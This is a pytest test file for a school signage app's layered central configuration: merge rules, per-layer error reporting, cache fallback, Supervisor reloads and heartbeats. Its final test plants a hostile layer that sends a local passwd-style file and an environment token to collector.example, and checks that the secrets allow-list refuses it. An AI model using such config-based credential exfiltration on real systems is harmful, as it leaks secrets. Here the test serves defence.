"""Central configuration: layers from the board of education over real HTTP on 127.0.0.1,
merged by the documented rules, checked with each layer's own name and lines, kept on disk
for a start with the server down, and fetched again by the Supervisor."""

from __future__ import annotations

import asyncio
import json
import logging
import re
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from signage import central, logs, supervisor
from signage.central import Layering
from signage.cli import build_parser, load, main
from signage.clock import FixedClock
from signage.config import Config
from signage.merge import merge
from signage.network import new_client
from signage.supervisor import Supervisor
from tests.test_poller import CALENDAR, NOW

DISTRICT = """\
[school]
timezone = "Asia/Tokyo"

[display]
on = "7:00"
off = "19:00"

[[sources]]
id = "district-events"
kind = "ics"
role = "events"
url = "feeds/events.ics"

[[sources]]
id = "ict-visits"
kind = "ics"
role = "visits"
url = "feeds/visits.ics"
match = "みらい小"

[[panels]]
kind = "today"
seconds = 30
"""

SCHOOL = """\
[central]
base = ["{base}"]

[school]
name = "みらい小"

[[sources]]
id = "cal"
kind = "ics"
role = "events"
url = "cal.ics"
"""


class Board:
    """The board's server: serves whatever `files` holds (else 404), and counts requests."""

    def __init__(self, server: HTTPServer) -> None:
        self.server = server
        self.files: dict[str, bytes] = {}
        self.routes: dict[str, Callable[[Request], Response]] = {}
        self.seen: list[Request] = []
        server.expect_request(re.compile(".*")).respond_with_handler(self.handle)

    def handle(self, request: Request) -> Response:
        if request.path in self.routes:
            return self.routes[request.path](request)
        self.seen.append(request)
        body = self.files.get(request.path)
        if body is None:
            return Response("not found", status=404)
        return Response(body, content_type="text/plain; charset=utf-8")

    def put(self, path: str, body: str | bytes) -> str:
        self.files[path] = body.encode() if isinstance(body, str) else body
        return self.server.url_for(path)


@pytest.fixture
def board(httpserver: HTTPServer, no_proxy: None) -> Board:
    return Board(httpserver)


@pytest.fixture
def own_server(no_proxy: None) -> Iterator[HTTPServer]:
    """A server of the test's own, which the test may stop (the board's server going down)."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.start()
    try:
        yield server
    finally:
        if server.is_running():
            server.stop()


@pytest.fixture(autouse=True)
def _japanese(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.delenv("SIGNAGE_LANG", raising=False)
    yield
    # main() logs to the stderr capsys gave it: detach it before capsys closes it
    root = logging.getLogger()
    for handler in list(logs._ours):
        root.removeHandler(handler)
    logs._ours.clear()


def write(path: Path, body: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(body), encoding="utf-8")
    return path


def school(tmp_path: Path, base: str, body: str = SCHOOL) -> Path:
    tmp_path.mkdir(parents=True, exist_ok=True)
    (tmp_path / "cal.ics").write_bytes(CALENDAR)
    return write(tmp_path / "school.toml", body.replace("{base}", base))


def resolve(root: str | Path, cache: Path | None = None, fetch: bool = True) -> central.Layered:
    return asyncio.run(Layering(root, cache).resolve(fetch=fetch))


def ids(config: Config | None) -> list[str]:
    assert config is not None
    return [source.id for source in config.sources]


def dead_url(path: str) -> str:
    """A URL on 127.0.0.1 where nothing listens (connection refused)."""
    server = HTTPServer(host="127.0.0.1", port=0)
    server.start()
    url = server.url_for(path)
    server.stop()
    return url


# --- The merge rules ------------------------------------------------------------------------------


def test_merge_rules() -> None:
    district = {
        "school": {"name": "市の既定", "timezone": "Asia/Tokyo"},
        "display": {"days": ["mon", "tue"], "on": "7:00", "off": "19:00"},
        "bell": {"name": "通常", "periods": [{"label": "1校時", "start": "8:45"}]},
        "panels": [{"kind": "today"}, {"kind": "week"}],
        "sources": [
            {"id": "a", "kind": "ics", "role": "events", "url": "https://b/a.ics"},
            {"id": "visits", "kind": "ics", "role": "visits", "url": "https://b/v.ics"},
            {"id": "c", "kind": "ics", "role": "staff_out", "url": "https://b/c.ics"},
            {
                "id": "komu",
                "kind": "json",
                "role": "notices",
                "url": "https://komu/api",
                "auth": {"type": "bearer", "env": "KOMU_TOKEN"},
                "fields": {"title": "件名", "body": "本文"},
            },
        ],
    }
    local = {
        "central": {"drop": ["c", "zzz"]},
        "school": {"name": "みらい小"},
        "display": {"days": ["wed"], "off": "18:00"},
        "bell": {"name": "短縮日課"},
        "panels": [{"kind": "notices"}],
        "sources": [
            {"id": "new", "kind": "csv", "role": "absences", "url": "x.csv"},
            {"id": "visits", "match": "みらい小"},
            {"id": "a", "kind": "json", "role": "notices", "url": "a.json"},
            {"id": "komu", "url": "https://elsewhere/api", "fields": {"title": "subject"}},
        ],
    }
    result = merge([district, local])
    merged, origins = result.data, result.origins
    # tables key by key: the school's keys win, the district's others stay
    assert merged["school"] == {"name": "みらい小", "timezone": "Asia/Tokyo"}
    # arrays are replaced, not joined
    assert merged["display"] == {"days": ["wed"], "on": "7:00", "off": "18:00"}
    # [bell] and [[panels]] are replaced whole: no district periods under the school's name
    assert merged["bell"] == {"name": "短縮日課"}
    assert merged["panels"] == [{"kind": "notices"}]
    # sources by id, in their place: a school refines the keys it writes; "c" is dropped and
    # "new" appended
    assert [s["id"] for s in merged["sources"]] == ["a", "visits", "komu", "new"]
    assert merged["sources"][0]["kind"] == "json"
    assert merged["sources"][1] == {
        "id": "visits",
        "kind": "ics",
        "role": "visits",
        "url": "https://b/v.ics",
        "match": "みらい小",
    }
    # a new url: the board's credentials do not follow it; fields merge key by key
    assert "auth" not in merged["sources"][2]
    assert merged["sources"][2]["fields"] == {"title": "subject", "body": "本文"}
    assert result.unknown_drops == [(1, 1, "zzz")]
    # where each part came from (layer index, its own key path)
    assert origins[("sources", 0, "kind")] == (1, ("sources", 2, "kind"))
    assert origins[("sources", 1, "url")] == (0, ("sources", 1, "url"))
    assert origins[("sources", 1, "match")] == (1, ("sources", 1, "match"))
    assert origins[("sources", 3)] == (1, ("sources", 0))
    assert origins[("display", "on")] == (0, ("display", "on"))
    assert origins[("display", "off")] == (1, ("display", "off"))
    # the layers themselves are untouched
    assert district["school"] == {"name": "市の既定", "timezone": "Asia/Tokyo"}
    assert "match" not in district["sources"][1]  # type: ignore[index, operator]

    # the same url keeps the credentials; a layer's own auth replaces them whole
    same = {"sources": [{"id": "komu", "url": "https://komu/api", "items": "data"}]}
    assert merge([district, same]).data["sources"][3]["auth"] == {
        "type": "bearer",
        "env": "KOMU_TOKEN",
    }
    own = {"sources": [{"id": "komu", "auth": {"type": "basic", "user": "u", "file": "/p"}}]}
    assert merge([district, own]).data["sources"][3]["auth"] == {
        "type": "basic",
        "user": "u",
        "file": "/p",
    }


def test_file_layers_relative_paths_are_per_layer(tmp_path: Path) -> None:
    write(tmp_path / "board" / "district.toml", DISTRICT)
    root = school(tmp_path / "school", "../board/district.toml")
    result = resolve(root)
    config = result.config
    assert config is not None, [i.format() for i in result.issues]
    by_id = {s.id: s.location for s in config.sources}
    assert by_id == {
        "district-events": str(tmp_path / "board" / "feeds" / "events.ics"),
        "ict-visits": str(tmp_path / "board" / "feeds" / "visits.ics"),
        "cal": str(tmp_path / "school" / "cal.ics"),
    }
    assert config.school.name == "みらい小"
    assert config.display.schedule.on is not None  # from the district
    assert [(p.kind, p.seconds) for p in config.panels] == [("today", 30.0)]
    assert config.path == root.resolve()
    assert config.central is not None
    assert config.central.base == (str(tmp_path / "board" / "district.toml"),)


def test_a_url_layers_relative_paths_are_urls(tmp_path: Path, board: Board) -> None:
    base = board.put("/signage/district.toml", DISTRICT)
    result = resolve(school(tmp_path, base))
    assert result.config is not None, [i.format() for i in result.issues]
    by_id = {s.id: s.location for s in result.config.sources}
    assert by_id["district-events"] == board.server.url_for("/signage/feeds/events.ics")
    assert by_id["cal"] == str(tmp_path / "cal.ics")
    assert result.current and result.notes == ()


def test_a_school_overrides_drops_and_adds(tmp_path: Path, board: Board) -> None:
    base = board.put("/district.toml", DISTRICT)
    body = SCHOOL.replace(
        'base = ["{base}"]', 'base = ["{base}"]\ndrop = ["ict-visits"]'
    ) + textwrap.dedent(
        """
        [[sources]]
        id = "district-events"
        kind = "ics"
        role = "events"
        url = "own-events.ics"

        [display]
        off = "18:00"

        [[panels]]
        kind = "week"
        """
    )
    (tmp_path / "own-events.ics").write_bytes(CALENDAR)
    config = resolve(school(tmp_path, base, body)).config
    assert config is not None
    assert [(s.id, s.location) for s in config.sources] == [
        ("district-events", str(tmp_path / "own-events.ics")),
        ("cal", str(tmp_path / "cal.ics")),
    ]
    schedule = config.display.schedule
    assert (str(schedule.on), str(schedule.off)) == ("07:00:00", "18:00:00")
    assert [p.kind for p in config.panels] == ["week"]


def test_each_school_filters_the_boards_shared_calendar(tmp_path: Path, board: Board) -> None:
    base = board.put("/district.toml", DISTRICT.replace('match = "みらい小"\n', ""))
    body = SCHOOL + '\n[[sources]]\nid = "ict-visits"\nmatch = "ひかり小"\n'
    root = school(tmp_path, base, body)
    result = resolve(root)
    assert result.config is not None, [i.format() for i in result.issues]
    visits = next(s for s in result.config.sources if s.id == "ict-visits")
    assert (visits.match, visits.location) == (
        "ひかり小",
        board.server.url_for("/feeds/visits.ics"),
    )

    # a typo in the id: it refines nothing, and a new source needs kind, role and url
    typo = school(tmp_path / "typo", base, body.replace('id = "ict-visits"', 'id = "ict-visit"'))
    result = resolve(typo)
    assert result.config is None
    missing = [i for i in result.issues if i.severity == "error"]
    assert {(i.file, i.line, i.key) for i in missing} == {
        (str(typo), 13, "sources[1].kind"),
        (str(typo), 13, "sources[1].role"),
        (str(typo), 13, "sources[1].url"),
    }


# --- Checking: every layer with its own name and lines ------------------------------------------


def test_check_reports_a_broken_layer_with_its_name_and_line(
    tmp_path: Path, board: Board, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = DISTRICT.replace('match = "みらい小"', 'match = "みらい小"\nmacth = "x"')
    base = board.put("/district.toml", broken)
    root = school(tmp_path, base)
    assert main(["check", str(root)]) == 2
    lines = capsys.readouterr().out.strip().splitlines()
    # in file order: the school's file first, on the line that names the layer
    assert lines == [
        # the test server speaks http://
        f"{root}:2: central.base[0]: 警告: http:// の設定は途中で書き換えられるおそれがあります。"
        "https:// の URL を使ってください。",
        f"{root}:2: central.base[0]: {base} に誤りがあり、正しい写しもないため、"
        "この設定なしで表示します。",
        f"{base}:20: sources[1].macth: 不明なキー「macth」です。ここで使えるのは "
        "id, kind, role, url, match, refresh_minutes, private, auth, max_size_mb, body_format, "
        "items, fields, values, next, encoding, calendar, tenant, client_id, login_url, "
        "graph_url, out_of_office, api_url, subject, area, office, point, alert_url, names, "
        "verify です。もしかして「match」?",
        f"{root}: 誤り 2件、警告 1件",
    ]

    # a TOML syntax error: the layer's line, and the kiosk would not use it
    board.put("/district.toml", DISTRICT.replace('role = "visits"', 'role = "visits'))
    assert main(["check", "--lang", "en", str(root)]) == 2
    out = capsys.readouterr().out
    assert f"{base}:17: (syntax): TOML syntax error" in out


def test_merged_problems_point_at_the_layer_that_wrote_them(tmp_path: Path, board: Board) -> None:
    # alone each file is fine; merged, the school's off is before the district's on
    base = board.put("/district.toml", DISTRICT)
    body = SCHOOL + '\n[display]\noff = "6:00"\n'
    result = resolve(school(tmp_path, base, body))
    assert result.config is None
    [issue] = [i for i in result.issues if i.severity == "error"]
    assert (issue.file, issue.line, issue.key) == (str(tmp_path / "school.toml"), 14, "display.off")
    assert "7:00" in issue.message or "07:00" in issue.message


def test_cycles_depth_drops_and_relative_files(tmp_path: Path, board: Board) -> None:
    a = board.server.url_for("/a.toml")
    board.put("/a.toml", '[central]\nbase = ["b.toml"]\n[network]\nca_bundle = "certs/ca.pem"\n')
    board.put("/b.toml", '[central]\nbase = ["a.toml"]\n')
    result = resolve(school(tmp_path, a, SCHOOL.replace('["{base}"]', '["{base}"]\ndrop = ["x"]')))
    found = {(i.file, i.line, i.key, i.severity) for i in result.issues}
    assert (board.server.url_for("/b.toml"), 2, "central.base[0]", "error") in found  # a loop
    assert (a, 4, "network.ca_bundle", "error") in found  # a relative file in a URL layer
    assert (str(tmp_path / "school.toml"), 3, "central.drop[0]", "warning") in found
    # a.toml is broken and was never good: left out, the school's own part runs alone
    assert ids(result.config) == ["cal"]
    assert result.notes == ("教育委員会の新しい設定に誤りがあります（この学校の設定だけで表示中）",)


def test_layer_auth_from_the_environment(
    tmp_path: Path, board: Board, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = board.put("/district.toml", DISTRICT)
    body = SCHOOL.replace(
        'base = ["{base}"]',
        'base = ["{base}"]\nauth = { type = "bearer", env = "SIGNAGE_BOARD_TOKEN" }',
    )
    root = school(tmp_path, base, body)
    monkeypatch.setenv("SIGNAGE_BOARD_TOKEN", "s3cret-token")
    assert ids(resolve(root).config) == ["district-events", "ict-visits", "cal"]
    assert board.seen[-1].headers["Authorization"] == "Bearer s3cret-token"

    monkeypatch.delenv("SIGNAGE_BOARD_TOKEN")
    result = asyncio.run(Layering(root, None).resolve())
    problem = next(i for i in result.issues if "取得できません" in i.message)
    assert "SIGNAGE_BOARD_TOKEN" in problem.message and "s3cret" not in problem.message


def test_a_config_given_as_a_url(tmp_path: Path, board: Board, capsys) -> None:
    board.put("/signage/district.toml", DISTRICT)
    board.put("/signage/feeds/events.ics", CALENDAR)
    url = board.put(
        "/signage/schools/mirai.toml",
        SCHOOL.replace("{base}", "../district.toml").replace("cal.ics", "mirai-cal.ics"),
    )
    board.put("/signage/schools/mirai-cal.ics", CALENDAR)
    argv = ["agenda", "--config", url, "--json", "--at", "2026-11-24T08:00"]
    assert main(argv) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["school"] == "みらい小"
    sources = {s["id"]: s["ok"] for s in data["sources"]}
    assert sources == {"district-events": True, "ict-visits": False, "cal": True}


def test_a_config_url_with_a_token_from_the_environment(
    tmp_path: Path, board: Board, monkeypatch: pytest.MonkeyPatch
) -> None:
    board.put("/signage/district.toml", DISTRICT)
    url = board.put("/signage/mirai.toml", SCHOOL.replace("{base}", "district.toml"))
    monkeypatch.setenv(central.ROOT_TOKEN_ENV, "board-token")
    result = resolve(url)
    assert ids(result.config) == ["district-events", "ict-visits", "cal"]
    # the same server: the layer is fetched with the token too
    assert [r.headers.get("Authorization") for r in board.seen] == ["Bearer board-token"] * 2
    assert result.config is not None and result.config.url == url
    assert result.config.path is None


# --- The server down -----------------------------------------------------------------------------


def test_server_down_after_one_good_fetch_starts_from_the_cache(
    tmp_path: Path, own_server: HTTPServer, capsys, caplog: pytest.LogCaptureFixture
) -> None:
    board = Board(own_server)
    base = board.put("/district.toml", DISTRICT)
    board.put("/feeds/events.ics", CALENDAR)
    board.put("/feeds/visits.ics", CALENDAR)
    root = school(tmp_path, base)
    argv = ["agenda", "--config", str(root), "--json", "--at", "2026-11-24T08:00"]
    assert main(argv) == 0
    first = json.loads(capsys.readouterr().out)

    own_server.stop()  # the board's server is down: the layer and its feeds are unreachable
    with caplog.at_level(logging.WARNING):
        assert main(argv) == 0
    data = json.loads(capsys.readouterr().out)
    assert [s["id"] for s in data["sources"]] == ["district-events", "ict-visits", "cal"]
    assert not data["sources"][0]["ok"]  # ... yet its last good data is on screen
    assert data["days"] == first["days"]
    assert "朝会" in [e["title"] for e in data["days"][0]["events"]]
    assert "central config" in caplog.text and "using the copy" in caplog.text

    # the status line says so; `check` reports it
    loaded = load(build_parser().parse_args(["agenda", "--config", str(root)]), NOW.date())
    [note] = loaded.notes
    assert note.startswith("教育委員会の設定を取得できません（前回 ") and "の設定で表示中" in note
    assert main(["check", str(root)]) == 0  # a warning: the kiosk runs on the copy
    out = capsys.readouterr().out
    assert f"{root}:2: central.base[0]: 警告: {base} を取得できません" in out
    assert out.endswith(f"{root}: 警告 2件（このままでも表示はできます）\n")  # and http://
    assert "前回" in out and "写しを使います" in out


def test_never_fetched_and_down_runs_on_the_local_part_with_a_note(tmp_path: Path) -> None:
    # its refinement of the board's calendar has nothing to refine: left out, not an error
    body = SCHOOL + '\n[[sources]]\nid = "ict-visits"\nmatch = "みらい小"\n'
    root = school(tmp_path, dead_url("/district.toml"), body)
    loaded = load(build_parser().parse_args(["agenda", "--config", str(root)]), NOW.date())
    assert ids(loaded.config) == ["cal"]
    assert loaded.notes == ("教育委員会の設定を取得できません（この学校の設定だけで表示中）",)
    assert loaded.config.central is not None  # the kiosk will keep trying
    # `run`: the Supervisor shows the layers' state live (it fetches them soon after the start)
    running = load(build_parser().parse_args(["run", "--config", str(root)]), NOW.date())
    assert running.notes == ()


def test_never_fetched_and_down_exits_2_when_the_local_part_is_not_valid_alone(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    base = dead_url("/district.toml")
    root = school(tmp_path, base, SCHOOL + '\n[display]\noff = "18:00"\n')  # on is the board's
    assert main(["agenda", "--config", str(root), "--json"]) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    # one line of reason (the log's warning about the layer may come before it)
    [line] = [line for line in captured.err.splitlines() if line.startswith("signage:")]
    assert captured.err.strip().endswith(line)
    assert line.startswith(f"signage: cannot fetch {base} (")
    assert "there is no saved copy" in line and f"{root} is not valid without it" in line


def test_a_broken_new_version_is_refused_for_the_last_good_copy(
    tmp_path: Path, board: Board, capsys
) -> None:
    base = board.put("/district.toml", DISTRICT)
    root = school(tmp_path, base)
    cache = central.cache_dir_for(root)
    assert ids(resolve(root, cache).config) == ["district-events", "ict-visits", "cal"]

    board.put("/district.toml", DISTRICT.replace('kind = "ics"', 'kind = "icss"', 1))
    result = resolve(root, cache)  # a new Layering: the copy comes from the disk
    assert ids(result.config) == ["district-events", "ict-visits", "cal"]
    assert result.notes[0].startswith("教育委員会の新しい設定に誤りがあります（前回 ")
    assert not result.current
    assert main(["check", str(root)]) == 2
    out = capsys.readouterr().out
    assert f"{base}:10: sources[0].kind: 不明な種類「icss」" in out
    assert "正しい写しを使います" in out

    # never good: left out, the school's part runs alone
    fresh = tmp_path / "other"
    other = school(fresh, base)
    result = resolve(other, central.cache_dir_for(other))
    assert ids(result.config) == ["cal"]
    assert result.notes == ("教育委員会の新しい設定に誤りがあります（この学校の設定だけで表示中）",)


# --- The running kiosk ---------------------------------------------------------------------------


async def until(condition, seconds: float = 10.0) -> None:
    loop = asyncio.get_running_loop()
    deadline = loop.time() + seconds
    while not condition():
        assert loop.time() < deadline, "timed out"
        await asyncio.sleep(0.02)


def test_the_supervisor_refreshes_the_layers(
    tmp_path: Path, board: Board, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(supervisor, "RELOAD_CHECK_SECONDS", 0.05)
    monkeypatch.setattr(supervisor, "FIRST_LAYERS_CHECK_SECONDS", 0.0)
    base = board.put("/district.toml", DISTRICT)
    body = SCHOOL.replace('base = ["{base}"]', 'base = ["{base}"]\nrefresh_minutes = 0.002')
    root = school(tmp_path, base, body)
    config, _ = central.load(root)
    changes: list[object] = []

    async def scenario() -> None:
        async with new_client() as client:
            sup = Supervisor(config, FixedClock(NOW), client, None, changes.append)
            sup.start()
            watcher = asyncio.create_task(sup.watch())
            try:
                first = sup.runtime
                board.put("/district.toml", DISTRICT.replace("seconds = 30", "seconds = 45"))
                await until(lambda: sup.runtime.config.panels[0].seconds == 45)
                assert sup.runtime is not first and sup.config_error is None
                assert ids(sup.runtime.config) == ["district-events", "ict-visits", "cal"]
                # the unchanged local source kept its data through the reload
                assert [e.title for e in sup.runtime.store.get("cal").items] == ["朝会", "避難訓練"]

                running = sup.runtime
                board.put("/district.toml", DISTRICT.replace('role = "visits"', 'role = "visit"'))
                await until(lambda: sup.config_error is not None)
                assert sup.runtime is running  # refused: the running config stays
                assert sup.config_error.startswith("教育委員会の新しい設定に誤りがあります（前回 ")
                assert changes[-1] is running  # the window hears of it

                board.put("/district.toml", DISTRICT.replace("seconds = 30", "seconds = 45"))
                await until(lambda: sup.config_error is None)
                assert sup.runtime is running  # the same config: nothing to rebuild
            finally:
                watcher.cancel()
                await asyncio.gather(watcher, return_exceptions=True)
                await sup.stop()

    asyncio.run(scenario())


def test_a_local_edit_uses_the_saved_layers_and_the_server_going_down_is_shown(
    tmp_path: Path, own_server: HTTPServer
) -> None:
    board = Board(own_server)
    base = board.put("/district.toml", DISTRICT)
    root = school(tmp_path, base)
    config, _ = central.load(root)
    cache = central.cache_dir_for(root)
    own_server.stop()

    async def scenario() -> None:
        async with new_client() as client:
            sup = Supervisor(config, FixedClock(NOW), client, cache)
            root.write_text(SCHOOL.replace("{base}", base).replace("みらい小", "みらい小学校"))
            sup._stamp = None  # as if saved a second later
            assert await sup.reload_if_changed()
            assert sup.runtime.config.school.name == "みらい小学校"
            assert ids(sup.runtime.config) == ["district-events", "ict-visits", "cal"]

            assert not await sup.refresh_layers()  # the server is down: nothing changes
            assert sup.config_error is not None
            assert sup.config_error.startswith("教育委員会の設定を取得できません（前回 ")
            assert not sup.layers_current
            await sup.stop()

    asyncio.run(scenario())


def test_a_plain_config_gains_layers_on_a_local_edit(tmp_path: Path, board: Board) -> None:
    base = board.put("/district.toml", DISTRICT)
    (tmp_path / "cal.ics").write_bytes(CALENDAR)
    plain = SCHOOL.replace('[central]\nbase = ["{base}"]\n', "")
    root = write(tmp_path / "school.toml", plain)

    async def scenario() -> None:
        async with new_client() as client:
            from signage.config import load_config

            sup = Supervisor(load_config(root), FixedClock(NOW), client, None)
            assert not sup.layered
            root.write_text(SCHOOL.replace("{base}", base), encoding="utf-8")
            sup._stamp = None
            assert await sup.reload_if_changed()
            assert sup.layered
            assert ids(sup.runtime.config) == ["district-events", "ict-visits", "cal"]
            await sup.stop()

    asyncio.run(scenario())


# --- Heartbeat -----------------------------------------------------------------------------------


def test_the_heartbeat_reports_health_to_it(
    tmp_path: Path, board: Board, monkeypatch: pytest.MonkeyPatch
) -> None:
    received: list[Request] = []

    def accept(request: Request) -> Response:
        assert request.method == "POST"
        received.append(request)
        return Response("", status=204)

    board.routes["/heartbeat"] = accept
    base = board.put(
        "/district.toml",
        DISTRICT
        + '\n[heartbeat]\nurl = "{url}"\nauth = {{ type = "bearer", env = "HB_TOKEN" }}\n'.format(
            url=board.server.url_for("/heartbeat")
        ),
    )
    allow = SCHOOL.replace('base = ["{base}"]', 'base = ["{base}"]\nsecrets = ["HB_*"]')
    body = allow + '\n[heartbeat]\nname = "みらい小 職員室"\nminutes = 0.001\n'
    root = school(tmp_path, base, body)
    monkeypatch.setenv("HB_TOKEN", "hb-secret")
    monkeypatch.setattr(supervisor, "FIRST_HEARTBEAT_SECONDS", 0.0)
    config, _ = central.load(root)
    assert config.heartbeat is not None and config.heartbeat.name == "みらい小 職員室"

    async def scenario() -> None:
        async with new_client() as client:
            sup = Supervisor(config, FixedClock(NOW), client, None)
            sup.start()
            await until(lambda: sup.runtime.store.get("cal").fetched_at is not None)
            await sup.refresh_layers()
            watcher = asyncio.create_task(sup.watch())
            try:
                await until(lambda: len(received) >= 2)  # sent again after `minutes`
            finally:
                watcher.cancel()
                await asyncio.gather(watcher, return_exceptions=True)
                await sup.stop()

    asyncio.run(scenario())
    request = received[0]
    assert request.headers["Authorization"] == "Bearer hb-secret"
    status = json.loads(request.get_data())
    assert status["kiosk"] == "みらい小 職員室" and status["school"] == "みらい小"
    assert status["version"] and status["host"]
    sources = {s["id"]: s for s in status["sources"]}
    assert sources["cal"]["ok"] and not sources["cal"]["stale"] and sources["cal"]["items"] == 2
    assert not sources["district-events"]["ok"]  # 404 on the board's test server
    assert sources["district-events"]["error"].startswith("HTTP 404")
    assert status["healthy"] is False
    assert status["last_refresh"] == NOW.isoformat()
    assert status["config"]["file"] == str(root.resolve())
    assert [layer["name"] for layer in status["config"]["layers"]] == [str(root), base]
    assert "hb-secret" not in request.get_data(as_text=True)


def test_a_heartbeat_that_fails_is_logged_once(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (tmp_path / "cal.ics").write_bytes(CALENDAR)
    url = dead_url("/heartbeat")
    body = SCHOOL.replace('[central]\nbase = ["{base}"]\n', "") + f'\n[heartbeat]\nurl = "{url}"\n'
    root = write(tmp_path / "school.toml", body)
    from signage.config import load_config

    async def scenario() -> None:
        async with new_client() as client:
            sup = Supervisor(load_config(root), FixedClock(NOW), client, None)
            with caplog.at_level(logging.INFO):
                assert not await sup.send_heartbeat()
                assert not await sup.send_heartbeat()
            assert sup.heartbeat_error is not None and url in sup.heartbeat_error

    asyncio.run(scenario())
    assert caplog.text.count("heartbeat not delivered") == 1


def test_a_layer_names_only_the_secrets_the_school_allows(
    board: Board, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A layer from the board's server may not send any of this PC's secrets (an environment
    variable, a readable file) to a host of its choosing: only what the school's own
    `[central] secrets` names. A layer that names anything else is refused whole."""
    leak = tmp_path / "passwd"
    leak.write_text("root:x:0:0\n", encoding="utf-8")
    layer = (
        DISTRICT
        + '\n[[sources]]\nid = "grab"\nkind = "ics"\nrole = "events"\n'
        + 'url = "https://collector.example/c.ics"\n'
        + f'auth = {{ type = "basic", user = "x", file = "{leak.as_posix()}" }}\n'
        + '\n[heartbeat]\nurl = "https://collector.example/hb"\n'
        + 'auth = { type = "bearer", env = "SIGNAGE_KOMU_TOKEN" }\n'
    )
    base = board.put("/district.toml", layer)
    refused = resolve(school(tmp_path, base))
    problems = [i for i in refused.issues if "secrets" in i.message]
    assert sorted(i.key for i in problems) == ["heartbeat.auth.env", "sources[2].auth.file"]
    assert all(i.severity == "error" for i in problems)
    assert refused.config is None or "grab" not in ids(refused.config)

    allowing = SCHOOL.replace(
        'base = ["{base}"]',
        f'base = ["{{base}}"]\nsecrets = ["SIGNAGE_KOMU_*", "{tmp_path.as_posix()}/*"]',
    )
    allowed = resolve(school(tmp_path, base, allowing))
    assert not [i for i in allowed.issues if "secrets" in i.message]
    assert "grab" in ids(allowed.config)
